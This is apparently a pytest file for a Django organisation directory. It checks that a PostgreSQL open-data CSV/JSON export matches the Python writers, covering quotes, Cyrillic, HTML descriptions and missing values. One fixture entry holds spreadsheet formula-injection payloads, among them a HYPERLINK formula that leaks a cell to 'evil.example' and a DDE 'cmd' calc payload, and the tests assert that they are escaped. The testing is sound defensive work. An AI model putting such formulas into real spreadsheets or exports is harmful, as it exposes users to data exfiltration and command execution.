"""The open-data export as PostgreSQL writes it is, byte for byte, what the Python writers give
for the same organisations: whole and filtered, CSV and JSON, in two languages, with the values
that are hard to write (quotes, line breaks, formulas, Cyrillic, empty lists, missing numbers),
and the ways the database takes to them (descriptions with no tags, with paragraphs and line
breaks only, with other tags; places written once per export; the directory's own joins)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.db import connection
from django.http import QueryDict
from django.utils import translation

from hub.spreadsheets import cell_read
from organisations import exports_sql
from organisations.exports import COLUMNS, csv_lines, export_rows, json_chunks
from organisations.filters import DirectoryFilter
from organisations.models import LegalForm, Sector
from organisations.selectors import organisation_directory, organisation_export_instances
from tests.factories import (
    FieldOfActivityFactory,
    MunicipalityFactory,
    OrganisationFactory,
    RegionFactory,
)

pytestmark = pytest.mark.django_db

BASE_URL = "https://sticisce.test"
FILTERS = [
    "",
    "sector=civil",
    "q=soča",
    "sort=-founded",
    "field=mladina",
    "sector=public",
    "region=goriska",
    "municipality=tolmin&sort=-name",
    "q=nobenega",
]


@pytest.fixture
def awkward():
    goriska = RegionFactory(name="Goriška", slug="goriska")
    ruse = RegionFactory(name="Област Русе", slug="oblast-ruse", country="BG")
    tolmin = MunicipalityFactory(name="Tolmin", slug="tolmin", region=goriska)
    bovec = MunicipalityFactory(name="Bovec", slug="bovec", region=goriska)
    ruse_town = MunicipalityFactory(name="Русе", slug="ruse", region=ruse, country="BG")
    youth = FieldOfActivityFactory(name_sl="Mladina", name_en="Youth", slug="mladina")
    # No English name: the English export falls back to another language's.
    culture = FieldOfActivityFactory(name_sl='Kultura "in", umetnost\\', name_en="", slug="kultura")
    OrganisationFactory(
        name='Društvo "Soča", Tolmin',
        short_name="Vrstica ena\nvrstica dve",
        description='<p>Prva &amp; druga</p>\n<p>"Citat", nova\r\nvrstica; <b>krepko</b></p>',
        phone="+386 5 000 00 00",
        seat=tolmin,
        fields=[culture, youth],
        municipalities_served=[tolmin, ruse_town, bovec],
        members=12,
        founded_year=1999,
        public_interest=True,
    )
    OrganisationFactory(
        name='=HYPERLINK("http://evil.example/?leak="&A1,"Soča")',
        short_name="+cmd|' /C calc'!A0",
        registration_number="@SUM(1+1)",
        tax_number="\t=1+1",
        phone="-5",
        website="",
        email="",
        description="-2+3+cmd|' /C calc'!A0",
        seat=None,
        members=None,
        employees=0,
    )
    OrganisationFactory(
        name="Сдружение „Русе“ \\ наклонена\tчерта",
        short_name="",
        sector=Sector.PUBLIC,
        legal_form=LegalForm.COMPANY,
        country="BG",
        seat=ruse_town,
        fields=[youth],
        description="",
        volunteers=7,
    )
    OrganisationFactory(name="Čakalna vrsta", verification_status="pending", fields=[youth])
    # Names the export writes from Python, once: quotes, a comma and a backslash in them.
    karst = RegionFactory(name='Kras "in" Brkini, \\ jug', slug="kras")
    sezana = MunicipalityFactory(name='Sežana, "mesto"', slug="sezana", region=karst)
    OrganisationFactory(
        name="Kraško društvo",
        seat=sezana,
        municipalities_served=[sezana, tolmin],
        fields=[youth],
        # Paragraphs and line breaks only, and a formula right after the first tag.
        description='<p>=1+2, "citat"</p><br><p>Druga\nvrstica</p>',
        phone="+386 5 000 00 01",
    )
    OrganisationFactory(
        name="Društvo brez oznak",
        # Plain text, no tags: taken as it is; and a number, which is no formula.
        description="-5",
        short_name="<b>-x</b>",
        municipalities_served=[ruse_town],
    )


def python_export(queryset, format: str, base_url: str = BASE_URL) -> bytes:
    rows = export_rows(organisation_export_instances(queryset), base_url=base_url)
    return "".join((csv_lines if format == "csv" else json_chunks)(rows)).encode()


def sql_export(queryset, format: str) -> bytes:
    chunks = exports_sql.export_chunks(lambda: queryset, format=format, base_url=BASE_URL)
    return b"".join(chunk if isinstance(chunk, bytes) else chunk.encode() for chunk in chunks)


def directory(query: str):
    return DirectoryFilter(QueryDict(query) or None, queryset=organisation_directory()).qs


@pytest.mark.parametrize("language", ["en", "sl"])
@pytest.mark.parametrize("format", ["csv", "json"])
@pytest.mark.parametrize("query", FILTERS)
def test_postgresql_writes_what_python_writes(awkward, monkeypatch, language, format, query):
    assert connection.vendor == "postgresql"
    with translation.override(language):
        expected = python_export(directory(query), format)
        # The database's writer reads no organisation into Python.
        monkeypatch.setattr(exports_sql, "organisation_export_instances", None)
        written = sql_export(directory(query), format)
    assert written == expected


def test_the_awkward_values_survive_both_writers(awkward):
    """What the comparison compares is not empty, and reads back as typed."""
    with translation.override("en"):
        text = sql_export(directory(""), "csv").decode()
        data = json.loads(sql_export(directory(""), "json"))
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [cell_read(row["name"]) for row in rows] == [item["name"] for item in data]
    assert len(rows) == 5
    by_slug = {item["slug"]: item for item in data}
    first = next(item for item in data if item["members"] == 12)
    assert first["field_labels"] == ['Kultura "in", umetnost\\', "Youth"]
    assert first["fields"] == ["kultura", "mladina"]
    assert first["municipalities_served"] == ["Bovec", "Tolmin", "Русе"]
    assert first["short_name"] == "Vrstica ena\nvrstica dve"
    assert first["description"] == 'Prva &amp; druga\n"Citat", nova\r\nvrstica; krepko'
    formula = next(row for row in rows if row["name"].startswith("'="))
    assert formula["short_name"].startswith("'+")
    assert formula["tax_number"] == "'\t=1+1"
    assert formula["phone"] == "-5"
    assert formula["members"] == "" and formula["employees"] == "0"
    assert formula["fields"] == "" and formula["seat"] == ""
    formula_json = by_slug[formula["slug"]]
    assert formula_json["name"].startswith("=") and formula_json["members"] is None
    assert formula_json["fields"] == []
    karst = next(item for item in data if item["name"] == "Kraško društvo")
    assert karst["seat"] == 'Sežana, "mesto"' and karst["region"] == 'Kras "in" Brkini, \\ jug'
    assert karst["municipalities_served"] == ['Sežana, "mesto"', "Tolmin"]
    assert karst["description"] == '=1+2, "citat"Druga\nvrstica'
    karst_row = next(row for row in rows if row["name"] == "Kraško društvo")
    assert karst_row["description"] == "'" + karst["description"]
    assert karst_row["municipalities_served"] == 'Sežana, "mesto"; Tolmin'
    plain = next(row for row in rows if row["name"] == "Društvo brez oznak")
    assert plain["description"] == "-5" and plain["fields"] == ""
    assert list(rows[0]) == [column.name for column in COLUMNS]


def test_the_download_is_the_database_writer(awkward, anonymous, monkeypatch):
    with translation.override("en"):
        expected = python_export(directory("sector=civil"), "csv", "http://testserver")
    monkeypatch.setattr(exports_sql, "organisation_export_instances", None)
    response = anonymous.get("/en/organisations/export.csv", {"sector": "civil"})
    assert b"".join(response.streaming_content) == expected
